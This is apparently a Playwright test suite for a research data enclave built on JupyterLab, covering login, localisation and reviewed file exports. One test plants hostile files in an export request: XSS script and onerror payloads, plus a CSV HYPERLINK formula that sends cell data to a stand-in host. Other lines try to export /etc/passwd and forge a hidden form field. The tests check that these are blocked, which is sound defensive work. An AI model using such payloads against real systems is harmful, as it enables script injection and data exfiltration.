"""A researcher in a real browser: OIDC login, project choice, JupyterLab, a polars cell on the demo data."""

from __future__ import annotations

import hashlib
import json
import re

import pytest
from playwright.sync_api import Browser, Page, expect

from enclave_demo.data import DEMO_PROJECT
from enclave_demo.harness import run_in
from tests.integration.conftest import AXE, Enclave, check_page, login

# where a sign-in ends: the hub (researchers), a service page (each other role lands where its work is:
# reviewers the review queue, approvers with steps waiting their applications, hub.landing), or a workspace
SIGNED_IN = re.compile(r"/(hub|user|services)/")


def run_cell(page: Page, code: str, expect_text: str, index: int) -> None:
    """Type into the active notebook cell, run it, and wait for its output."""
    cell = page.locator(".jp-Notebook .jp-Cell .cm-content").nth(index)
    cell.click()
    page.keyboard.type(code)
    page.keyboard.press("Shift+Enter")
    expect(page.locator(".jp-Notebook .jp-Cell").nth(index).locator(".jp-OutputArea-output")).to_contain_text(
        expect_text, timeout=90_000)


def review_in_ui(browser: Browser, enclave: Enclave, reviewer: str, rid: int, decision: str, comment: str) -> str:
    context = browser.new_context(locale="zh-CN" if reviewer == "carol" else "en-US")
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        login(page, enclave, reviewer)
        page.wait_for_url(SIGNED_IN)
        page.goto(f"{enclave.url}/services/egress-review/")
        page.locator(f"#queue tr[data-request='{rid}'] a").click()
        for fs in page.locator("fieldset.file").all():
            fs.locator(f"input[value='{decision}']").check()
            fs.locator("textarea").fill(comment)
        page.locator(f"#review-form fieldset:not(.file) input[value='{decision}']").check()
        page.fill("textarea[name=comment_to_requester]", comment)
        page.click("#submit-review")
        page.click("#confirm")  # the decision is asked for again on a page of its own before it is recorded
        page.wait_for_url(re.compile(rf"/requests/{rid}\?done=reviewed"))
        return page.locator("#state").inner_text()
    finally:
        context.close()


def test_researcher_analyses_exports_from_jupyterlab_and_downloads_after_two_reviews(
        enclave: Enclave, browser: Browser, tmp_path):
    context = browser.new_context(locale="en-US", viewport={"width": 1400, "height": 900}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        login(page, enclave, "alice")
        page.wait_for_url("**/hub/spawn*")
        page.check(f"#project-{DEMO_PROJECT}")
        page.click("#start-workspace")
        page.wait_for_url("**/user/alice/lab/**", timeout=120_000)
        page.locator(".jp-LauncherCard[data-category='Notebook']").first.click()
        expect(page.locator(".jp-Notebook .jp-Cell .cm-content").first).to_be_visible()
        expect(page.locator(".jp-StatusBar-Widget").filter(has_text="Idle").first).to_be_visible(timeout=90_000)
        run_cell(page, "import polars as pl\n"
                       "df = pl.read_parquet('/data/cohort/cohort.parquet')\n"
                       "print('ROWS', df.height, 'READMITTED', df['readmitted'].sum())", "ROWS 20000", 0)
        # results written and sent for export from the notebook, no terminal
        run_cell(page, "import os; os.makedirs('/workspace/results', exist_ok=True)\n"
                       "df.group_by('sex').agg(pl.len().alias('n')).sort('sex').write_csv('/workspace/results/by_sex.csv')\n"
                       "from enclave_export import request_export\n"
                       "r = request_export(['results/by_sex.csv'], 'Counts by sex for the paper')\n"
                       "print('EXPORT', r['id'], r['state'], r['files'][0]['verdict'])", "EXPORT", 1)
        out = page.locator(".jp-Notebook .jp-Cell").nth(1).locator(".jp-OutputArea-output").inner_text()
        rid = int(out.split()[1])
        assert "submitted pass" in out, out
        # a file with a resident ID number is blocked by the automated checks
        run_cell(page, "open('/workspace/results/ids.txt', 'w').write('身份证号 11010519491231002X')\n"
                       "b = request_export(['results/ids.txt'], 'list of patients')\n"
                       "print('BLOCKED', b['id'], b['files'][0]['verdict'], b['files'][0]['findings'][0]['kind'])",
                 "BLOCKED", 2)
        out = page.locator(".jp-Notebook .jp-Cell").nth(2).locator(".jp-OutputArea-output").inner_text()
        assert "block CN_RESIDENT_ID" in out, out
        blocked_id = int(out.split()[1])

        # two reviewers, each in their own browser, approve in the UI (one in English, one in Chinese)
        assert review_in_ui(browser, enclave, "bob", rid, "approve", "Aggregate counts, all above 10.") == "in review"
        assert review_in_ui(browser, enclave, "carol", rid, "approve", "同意导出。") == "已发布"

        # the blocked request cannot be approved in the UI: its approve choice is disabled
        rc = browser.new_context(locale="en-US")
        rp = rc.new_page()
        login(rp, enclave, "bob")
        rp.wait_for_url(SIGNED_IN)
        rp.goto(f"{enclave.url}/services/egress-review/requests/{blocked_id}")
        expect(rp.locator("fieldset.file input[value='approve']")).to_be_disabled()
        expect(rp.locator("fieldset.file .verdict-block").first).to_be_visible()
        rc.close()

        # the researcher downloads the release, with its record
        page.goto(f"{enclave.url}/services/egress-review/requests/{rid}")
        expect(page.locator("#state")).to_have_text("released")
        with page.expect_download() as dl:
            page.locator("#downloads a").first.click()
        saved = tmp_path / "by_sex.csv"
        dl.value.save_as(saved)
        assert saved.read_text().splitlines()[0] == "sex,n"
        with page.expect_download() as dl:
            page.click("#results")
        record = tmp_path / "results.json"
        dl.value.save_as(record)
        rec = json.loads(record.read_text())
        assert rec["files"][0]["sha256"] == hashlib.sha256(saved.read_bytes()).hexdigest()
        # two approving reviews; who reviewed stays in the enclave's own record, not in what the requester takes out
        assert [r["decision"] for r in rec["reviews"]] == ["approve", "approve"]
        assert "bob" not in record.read_text() and "carol" not in record.read_text()
    finally:
        page.screenshot(path=str(tmp_path / "lab.png"))
        print("screenshot:", tmp_path / "lab.png")
        context.close()
        enclave.login("alice").stop()


def test_hub_pages_follow_the_browser_language(enclave: Enclave, browser: Browser):
    for locale, expected in (("zh-CN", "通过机构统一身份认证登录"), ("en-US", "Sign in with the institution")):
        context = browser.new_context(locale=locale)
        page = context.new_page()
        page.goto(f"{enclave.url}/hub/login")
        expect(page.locator("#idp-login")).to_contain_text(expected)
        check_page(page, "zh-CN" if locale == "zh-CN" else "en", "login page")
        page.click("#idp-login")
        page.wait_for_url(f"{enclave.settings.idp_url}/authorize*")
        expect(page.locator("#login")).to_have_text("登录" if locale == "zh-CN" else "Sign in")
        context.close()


BEACON = "/services/egress-review/pwned-"  # any request for it means a reviewed file's code ran
HOSTILE = {
    "hostile/report.html": "<html><body><h1>Results</h1><p>n = 20000</p>"
                           f"<script>window.__pwned = 1; document.title = 'PWNED'; fetch('{BEACON}html')</script>"
                           f"<img src=x onerror=\"fetch('{BEACON}img')\"></body></html>",
    "hostile/figure.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{BEACON}svg-onload')\">"
                          f"<script>fetch('{BEACON}svg')</script><circle r='5'/></svg>",
    "hostile/analysis.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": f"<img src=x onerror=\"fetch('{BEACON}md')\">"},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "show()", "outputs": [
            {"output_type": "display_data", "metadata": {}, "data": {
                "text/html": f"<script>fetch('{BEACON}nb-html'); alert(1)</script><b>table</b>",
                "application/javascript": f"fetch('{BEACON}nb-js')",
                "text/plain": "table"}}]}]}),
    "hostile/table.csv": 'region,n\neast,120\n"=HYPERLINK(""http://example.invalid/?d=""&A2,""open"")",130\n',
}


def test_hostile_files_do_nothing_in_the_reviewer_ui(enclave: Enclave, browser: Browser):
    """Script in reviewed HTML, SVG and notebooks never runs for the reviewer; formulas are marked."""
    alice = enclave.login("alice")
    assert alice.start(DEMO_PROJECT).status_code in (201, 202)
    try:
        names = json.dumps(list(HOSTILE))
        code = "import json, os, subprocess\nos.makedirs('/workspace/hostile', exist_ok=True)\n" + "".join(
            f"open('/workspace/{k}', 'w').write({v!r})\n" for k, v in HOSTILE.items()) + (
            f"r = subprocess.run(['enclave-export', '--json', 'request', *{names}, '-j', 'hostile files'], "
            "capture_output=True, text=True, cwd='/workspace')\nprint(r.stdout or json.dumps({'err': r.stderr}))")
        req = run_in(enclave.container("alice"), code)
        assert "id" in req, req
    finally:
        alice.stop()
    verdicts = {f["name"]: f for f in req["files"]}
    assert verdicts["hostile/figure.svg"]["verdict"] == "block"  # script in markup is refused
    assert any(x["kind"] == "spreadsheet-formula" for x in verdicts["hostile/table.csv"]["findings"]), verdicts[
        "hostile/table.csv"]  # the requester's form of the finding: the kind of rule, no detail

    context = browser.new_context(locale="en-US")
    page = context.new_page()
    page.set_default_timeout(60_000)
    seen: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: seen.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        login(page, enclave, "bob")
        page.wait_for_url(SIGNED_IN)
        base = f"{enclave.url}/services/egress-review/requests/{req['id']}"
        resp = page.goto(base)
        assert resp is not None and "script-src" not in resp.headers["content-security-policy"]
        assert "default-src 'none'" in resp.headers["content-security-policy"]
        for f in req["files"]:
            page.goto(f"{base}/files/{f['id']}")
            page.wait_for_load_state("load")
            page.wait_for_timeout(500)  # an onload/onerror handler would have fired by now
            assert page.evaluate("window.__pwned") is None and page.title() != "PWNED"
            if f["name"].endswith((".html", ".svg", ".ipynb")):  # shown as source text, not rendered
                expect(page.locator("#content")).to_contain_text("fetch(")
            if f["name"].endswith(".csv"):
                expect(page.locator("#content td.formula")).to_have_count(1)
    finally:
        context.close()
    assert not [u for u in seen if "pwned-" in u], seen
    assert dialogs == []


# --- The hub pages and the workspace in the user's language (issue 14) --------------------------------------

MEMORY = re.compile(r"\d+(\.\d+)? / (2048\.00 MB|2\.00 GB)")  # jupyter-resource-usage: used / the 2G limit
WORDS = {
    "zh-CN": {"title": "选择项目", "card": "糖尿病结局研究（演示）", "tier": "等级", "limits": "内存 2G",
              "pending": "您的工作区正在启动", "log": "事件日志", "stage_network": "内部网络，无互联网",
              "menu": "文件", "no_network": "本工作区按设计没有网络连接", "blocked": "下载需通过导出申请",
              "start": "启动我的工作区", "stopped": "您的工作区已停止。", "not_running": "您的工作区未运行",
              "zone": "中国标准时间", "not_found": "页面不存在", "services": "导出申请与审核",
              "summary": "接下来", "outside": "不在项目工作区中", "settings": "设置", "language": "语言"},
    "en": {"title": "Choose a project", "card": "Diabetes outcomes (demo)", "tier": "tier", "limits": "2G memory",
           "pending": "Your workspace is starting", "log": "Event log", "stage_network": "internal, no internet",
           "menu": "File", "no_network": "this workspace has no network, by design", "blocked":
           "Downloads go through export requests", "start": "Start My Server", "stopped": "Your workspace has stopped.",
           "not_running": "Your workspace is not running", "zone": "China Standard Time", "not_found": "Page not found",
           "services": "Export requests and reviews", "summary": "What happens next",
           "outside": "is not in your project's workspace", "settings": "Settings", "language": "Language"},
}


def start_from_form(page: Page, enclave: Enclave, lang: str, username: str, lab_lang: str = "") -> None:
    """Starts the demo project's workspace from the spawn page, follows the progress until JupyterLab and sees
    JupyterLab's menu in `lab_lang` (the hub's language unless the user chose another in JupyterLab)."""
    w = WORDS[lang]
    page.goto(f"{enclave.url}/hub/spawn")
    page.check(f"#project-{DEMO_PROJECT}")
    page.click("#start-workspace")
    page.wait_for_url("**/hub/spawn-pending/**")
    expect(page.locator("h1")).to_have_text(w["pending"])
    expect(page.locator("#progress-details summary")).to_have_text(w["log"])
    expect(page.locator("#progress-log [data-stage='mounts']")).to_be_visible()
    expect(page.locator("#progress-log [data-stage='network']")).to_contain_text(w["stage_network"])
    # the same page, held still (no event stream, so no reload when the server is ready), scanned and checked
    still = page.context.new_page()
    still.route("**/server/progress*", lambda route: route.abort())
    still.goto(page.url)
    expect(still.locator("h1")).to_have_text(w["pending"])
    check_page(still, lang, "spawn pending")
    still.close()
    page.wait_for_url(f"**/user/{username}/lab/**", timeout=120_000)
    expect(page.locator(".lm-MenuBar-itemLabel").first).to_have_text(WORDS[lab_lang or lang]["menu"], timeout=60_000)


INSTALL_LANGUAGES = "[data-command='jupyterlab-translation:install-languages']"
LANGUAGE_ITEM = ".lm-Menu-item[data-command='jupyterlab-translation:{}']"


def lab_offers_nothing_to_install(page: Page, lang: str) -> None:
    """Settings > Language lists the installed languages but not "Install more languages…", and the command
    palette offers neither that nor the extension manager: nothing can be installed in an offline enclave.

    JupyterLab does add the item (a greyed one, its extension manager being disabled); the enclave hides it, so
    it is looked for in the page, and must be there and not shown.
    """
    page.locator(".lm-MenuBar-item").filter(has_text=WORDS[lang]["settings"]).click()
    page.locator(".lm-Menu-item[data-type='submenu']").filter(has_text=WORDS[lang]["language"]).click()
    menu = page.locator("#jp-mainmenu-settings-language")
    expect(menu.locator(LANGUAGE_ITEM.format("zh_CN"))).to_be_visible()
    expect(menu.locator(LANGUAGE_ITEM.format("en"))).to_be_visible()
    expect(menu.locator(INSTALL_LANGUAGES)).to_have_count(1)
    expect(menu.locator(INSTALL_LANGUAGES)).to_be_hidden()
    # axe-core finds JupyterLab's own menu markup wanting in every menu (focusable separators, submenu items
    # with no role); the hidden item must add nothing to what the Settings menu itself has
    lumino = {p.split(":")[0] for p in panel_accessibility_problems(page, "#jp-mainmenu-settings")}
    assert {p.split(":")[0] for p in panel_accessibility_problems(page, "#jp-mainmenu-settings-language")} <= lumino
    page.keyboard.press("Escape")
    page.keyboard.press("Escape")
    page.keyboard.press("Control+Shift+C")  # the command palette, every command listed while nothing is typed
    palette = page.locator(".lm-CommandPalette")
    expect(palette.locator(".lm-CommandPalette-item[data-command='jupyterlab-translation:zh_CN']")).to_have_count(1)
    expect(palette.locator(f".lm-CommandPalette-item{INSTALL_LANGUAGES}")).to_have_count(1)
    expect(palette.locator(f".lm-CommandPalette-item{INSTALL_LANGUAGES}")).to_be_hidden()
    expect(palette.locator(".lm-CommandPalette-item[data-command^='extensionmanager:']")).to_have_count(0)
    page.keyboard.press("Escape")
    expect(page.locator("[data-id='extensionmanager.main-view']")).to_have_count(0)  # no side panel either


@pytest.mark.parametrize(("lang", "username"), [("zh-CN", "frank"), ("en", "alice")])
def test_hub_pages_and_workspace_speak_the_users_language(enclave: Enclave, browser: Browser, lang: str,
                                                           username: str, tmp_path):
    """Spawn page with the project's facts, progress of the start, JupyterLab (with nothing offered to install)
    and its refusals, stop, restart, token and 404 pages: all in the browser's language, with no words of the
    other and no serious axe issue."""
    w = WORDS[lang]
    context = browser.new_context(locale=lang if lang == "zh-CN" else "en-US", timezone_id="Asia/Shanghai",
                                  viewport={"width": 1400, "height": 900})
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        login(page, enclave, username)
        page.wait_for_url("**/hub/spawn*")
        expect(page.locator("h1")).to_have_text(w["title"])
        card = page.locator(f".project-choice[data-project='{DEMO_PROJECT}']")
        expect(card).to_contain_text(w["card"])
        expect(card.locator(".purpose")).to_contain_text("readmission")
        expect(card.locator(".datasets")).to_contain_text("cohort")
        expect(card.locator(".datasets")).to_contain_text(w["tier"])
        expect(card.locator(".limits")).to_contain_text(w["limits"])
        expect(page.locator("#services-menu + .dropdown-menu [data-service='egress-review']")).to_have_text(
            w["services"], use_inner_text=False)
        check_page(page, lang, "spawn page")

        start_from_form(page, enclave, lang, username)
        # the memory and CPU indicator against the project's limit (2G), and no extension manager
        expect(page.locator(".jp-StatusBar-Widget").filter(has_text=MEMORY)).to_have_count(1, timeout=30_000)
        # a fresh layout shows the launcher, whatever an earlier test left open in this user's lab (a notebook
        # asking for its kernel would cover the menus)
        page.goto(f"{enclave.url}/user/{username}/lab?reset")
        expect(page.locator(".jp-LauncherCard").first).to_be_visible()
        lab_offers_nothing_to_install(page, lang)  # JupyterLab opened in the browser's language (start_from_form)
        # curl says why there is no network and pip how to ask for a package the enclave's index lacks, in the
        # user's language
        page.locator(".jp-LauncherCard").first.click()  # the first card is a notebook (its label is translated)
        expect(page.locator(".jp-Notebook .jp-Cell .cm-content").first).to_be_visible()
        expect(page.locator(".jp-StatusBar-Widget").filter(has_text=re.compile("Idle|空闲")).first).to_be_visible(
            timeout=90_000)
        run_cell(page, "%pip install polars-extra\n!curl -s http://files.example.invalid/table.csv", w["no_network"],
                 0)
        expect(page.locator(".jp-Notebook .jp-Cell").first.locator(".jp-OutputArea")).to_contain_text(
            "curl" + ("：" if lang == "zh-CN" else ":"))
        expect(page.locator(".jp-Notebook .jp-Cell").first.locator(".jp-OutputArea")).to_contain_text(
            "enclave-packages request polars-extra --reason")
        # request_export in a notebook: a summary in words with a link, and one sentence for a path outside
        run_cell(page, f"from enclave_export import request_export\n"
                       f"open('/workspace/note-{username}.txt', 'w').write('Aggregate tables only.')\n"
                       f"request_export(['note-{username}.txt'], 'a note')", w["summary"], 1)
        summary = page.locator(".jp-Notebook .jp-Cell").nth(1).locator(".enclave-export-summary")
        expect(summary.locator("a[href^='/services/egress-review/requests/']")).to_have_count(1)
        run_cell(page, "request_export(['/etc/passwd'], 'x')", w["outside"], 2)
        refused = page.locator(".jp-Notebook .jp-Cell").nth(2).locator(".jp-OutputArea-output").inner_text()
        assert "Traceback" not in refused and len(refused.strip().splitlines()) == 1, refused
        # a download URL ends on the enclave's page, not a bare "Access denied"
        resp = page.goto(f"{enclave.url}/user/{username}/files/workspace/any.csv?download=1")
        assert resp is not None and resp.status == 403
        expect(page.locator("#enclave-blocked")).to_have_text(w["blocked"])
        check_page(page, lang, "download refused")

        if lang == "zh-CN":  # the user picks English in JupyterLab; the choice survives a restart
            page.goto(f"{enclave.url}/user/{username}/lab/tree/workspace")
            page.evaluate("""async (u) => {
                const x = document.cookie.split('; ').find(c => c.startsWith('_xsrf='));
                await fetch(u + '/lab/api/settings/@jupyterlab/translation-extension:plugin', {method: 'PUT',
                  headers: {'Content-Type': 'application/json', 'X-XSRFToken': x ? x.slice(6) : ''},
                  body: JSON.stringify({raw: '{"locale": "en"}'})}); }""", f"/user/{username}")

        # stop from the home page: the button after the stop is in the user's language
        page.goto(f"{enclave.url}/hub/home")
        page.click("#stop")
        expect(page.locator("#home-status")).to_have_text(w["stopped"], timeout=60_000)
        expect(page.locator("#start")).to_have_text(w["start"])
        check_page(page, lang, "home after stop")
        page.goto(f"{enclave.url}/user/{username}/lab")
        expect(page.locator("h1")).to_have_text(w["not_running"])
        check_page(page, lang, "not running")

        if lang == "zh-CN":
            start_from_form(page, enclave, lang, username, lab_lang="en")  # the user's own choice, kept
            enclave.login(username).stop()

        page.goto(f"{enclave.url}/hub/token")
        page.fill("#token-note", "laptop")
        page.click("#request-token-form button[type=submit]")
        expect(page.locator("#token-result")).not_to_be_empty()
        page.reload()
        expect(page.locator("#api-tokens-table time").first).to_contain_text(w["zone"])
        check_page(page, lang, "token page")

        resp = page.goto(f"{enclave.url}/hub/no-such-page")
        assert resp is not None and resp.status == 404
        expect(page.locator("#error-title")).to_contain_text(w["not_found"])
        check_page(page, lang, "404")
    finally:
        page.screenshot(path=str(tmp_path / f"hub-ui-{lang}.png"))
        print("screenshot:", tmp_path / f"hub-ui-{lang}.png")
        context.close()
        enclave.login(username).stop()


@pytest.mark.parametrize("lang", ["zh-CN", "en"])
def test_a_refused_start_says_why_once_in_the_users_language(enclave: Enclave, browser: Browser, lang: str):
    """Eve is in no project: the spawn page says so, and forcing a start shows the core's reason once, without
    "HTTP 403: Forbidden"."""
    context = browser.new_context(locale=lang if lang == "zh-CN" else "en-US")
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        login(page, enclave, "eve")
        page.wait_for_url("**/hub/spawn*")
        expect(page.locator("#no-project")).to_be_visible()
        check_page(page, lang, "spawn page without a project")
        page.evaluate(f"""() => {{ const i = document.createElement('input'); i.type = 'hidden'; i.name = 'project';
            i.value = '{DEMO_PROJECT}'; document.getElementById('spawn_form').append(i); }}""")
        page.click("#start-workspace")
        error = page.locator(".spawn-error-msg")
        expect(error).to_have_count(1)
        reason = "您不是项目“demo-diabetes”的成员" if lang == "zh-CN" else "you are not a member of project"
        expect(error).to_contain_text(reason)
        assert "HTTP" not in error.inner_text() and page.content().count(reason) == 1
        check_page(page, lang, "refused start")
    finally:
        context.close()


LAB_EXPORT = {
    "zh-CN": {"missing": "请说明这些文件是什么", "request": "导出申请", "state": "已提交", "verdict": "通过",
              "next": "将由两名审核员检查", "open": "打开申请页面", "tab": "我在本项目中的导出申请",
              "state_line": "状态：已提交"},
    "en": {"missing": "Say what the files are", "request": "Export request", "state": "submitted",
           "verdict": "passed", "next": "Two reviewers check it", "open": "Open the request page",
           "tab": "Your export requests in this project", "state_line": "State: submitted"},
}


def panel_accessibility_problems(page: Page, selector: str) -> list[str]:
    """axe-core's serious and critical violations inside one element (the rest is JupyterLab's own)."""
    page.add_script_tag(path=str(AXE))
    found = page.evaluate("async (s) => (await axe.run(s, {resultTypes: ['violations']})).violations"
                          ".filter(v => ['serious', 'critical'].includes(v.impact))"
                          ".map(v => v.id + ': ' + v.nodes.map(n => n.target.join(' ')).join(', '))", selector)
    return list(found)


@pytest.mark.parametrize(("lang", "username"), [("zh-CN", "frank"), ("en", "alice")])
def test_request_export_from_the_file_browser_and_follow_it_in_the_exports_panel(
        enclave: Enclave, browser: Browser, lang: str, username: str, tmp_path):
    """Right-click a file in /workspace, Request export, a justification (asked for again when empty, next to its
    field), the result in words; the Exports panel lists the request, in the language chosen in JupyterLab,
    with no serious axe issue. A file under /data has no such item."""
    w = LAB_EXPORT[lang]
    name = f"lab-export-{username}.csv"
    context = browser.new_context(locale=lang if lang == "zh-CN" else "en-US", viewport={"width": 1400, "height": 900})
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        login(page, enclave, username)
        page.wait_for_url(SIGNED_IN)
        page.goto(f"{enclave.url}/hub/spawn")
        page.check(f"#project-{DEMO_PROJECT}")
        page.click("#start-workspace")
        page.wait_for_url(f"**/user/{username}/lab/**", timeout=120_000)
        # the file to export, and JupyterLab's language as this user would choose it in Settings > Language
        page.evaluate("""async ([u, name, locale]) => {
            const x = document.cookie.split('; ').find(c => c.startsWith('_xsrf='));
            const headers = {'Content-Type': 'application/json', 'X-XSRFToken': x ? x.slice(6) : ''};
            await fetch(u + '/api/contents/workspace/' + name, {method: 'PUT', headers, body: JSON.stringify(
              {type: 'file', format: 'text', content: 'region,n\\neast,120\\nwest,130\\n'})});
            await fetch(u + '/lab/api/settings/@jupyterlab/translation-extension:plugin', {method: 'PUT', headers,
              body: JSON.stringify({raw: JSON.stringify({locale})})}); }""",
                      [f"/user/{username}", name, "zh_CN" if lang == "zh-CN" else "en"])
        page.goto(f"{enclave.url}/user/{username}/lab/tree/workspace?reset")
        item = page.locator(".jp-DirListing-item", has_text=name)
        item.click(button="right")
        page.locator(".lm-Menu-item[data-command='enclave:request-export']").click()

        dialog = page.locator(".jp-Dialog")
        expect(dialog.locator(".enclave-form code")).to_have_text(f"workspace/{name}")
        dialog.locator(".jp-mod-accept").click()  # no justification: asked again, the problem next to the field
        error = page.locator("#enclave-field-justification-error")
        expect(error).to_contain_text(w["missing"])
        field = page.locator("#enclave-field-justification")
        assert field.get_attribute("aria-describedby") == error.get_attribute("id")
        assert panel_accessibility_problems(page, ".jp-Dialog") == []
        field.fill("Counts by region, all above 10." if lang == "en" else "各地区计数，均大于 10。")
        page.locator(".jp-Dialog .jp-mod-accept").click()

        result = page.locator(".jp-Dialog .enclave-result .enclave-request")
        expect(result.locator("h3")).to_contain_text(w["request"], timeout=120_000)
        rid = result.get_attribute("data-request")
        expect(result.locator(".enclave-state")).to_have_text(w["state"])
        expect(result.locator("tbody tr").first).to_contain_text(w["verdict"])
        expect(result).to_contain_text(w["next"])
        expect(result.locator("a")).to_have_attribute("href", f"/services/egress-review/requests/{rid}")
        assert panel_accessibility_problems(page, ".jp-Dialog") == []
        page.locator(".jp-Dialog .jp-mod-accept").click()

        page.locator(".lm-TabBar-tab[data-id='enclave-exports']").click()
        panel = page.locator("#enclave-exports")
        expect(page.locator(".lm-TabBar-tab[data-id='enclave-exports']")).to_have_attribute("title", w["tab"])
        listed = panel.locator(f"section[data-request='{rid}']")
        expect(listed.locator(".enclave-state")).to_have_text(w["state"])
        expect(listed).to_contain_text(w["state_line"])
        expect(listed.locator("a")).to_have_text(w["open"])
        assert panel.get_attribute("lang") == lang
        assert panel_accessibility_problems(page, "#enclave-exports") == []
        page.screenshot(path=str(tmp_path / f"lab-exports-panel-{lang}.png"))

        # a file outside /workspace (the dataset, read-only under /data): no "Request export" item
        page.goto(f"{enclave.url}/user/{username}/lab/tree/data/cohort?reset")  # the file browser, not the panel
        page.locator(".jp-DirListing-item", has_text="cohort.parquet").click(button="right")
        expect(page.locator(".lm-Menu-item[data-command='filebrowser:copy']")).to_be_visible()
        expect(page.locator(".lm-Menu-item[data-command='enclave:request-export']")).to_be_hidden()
    finally:
        page.screenshot(path=str(tmp_path / f"lab-export-{lang}.png"))
        print("screenshot:", tmp_path / f"lab-export-{lang}.png")
        context.close()
        enclave.login(username).stop()
